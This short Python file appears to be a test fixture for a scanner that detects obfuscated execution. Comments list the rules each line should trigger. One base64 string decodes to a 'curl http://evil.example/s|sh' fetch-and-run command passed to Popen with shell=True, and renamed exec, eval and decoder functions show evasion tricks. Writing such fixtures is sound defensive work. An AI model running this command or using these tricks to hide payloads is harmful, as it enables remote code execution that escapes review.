# ruff: noqa
# fmt: off
"""Aliasing: renamed imports, renamed builtins, builtins module access."""
import builtins
import codecs
from base64 import b64decode as unpack
from subprocess import Popen as P

run = exec
run(unpack("cHJpbnQoJ2hpJyk="))  # expect: exec-base64|api-obfuscation

builtins.eval(codecs.decode("cevag('uv')", "rot13"))  # expect: exec-base64

secret_cmd = unpack("Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3N8c2g=").decode()
P(secret_cmd, shell=True)  # expect: exec-base64, shell-command|download-pipe-shell
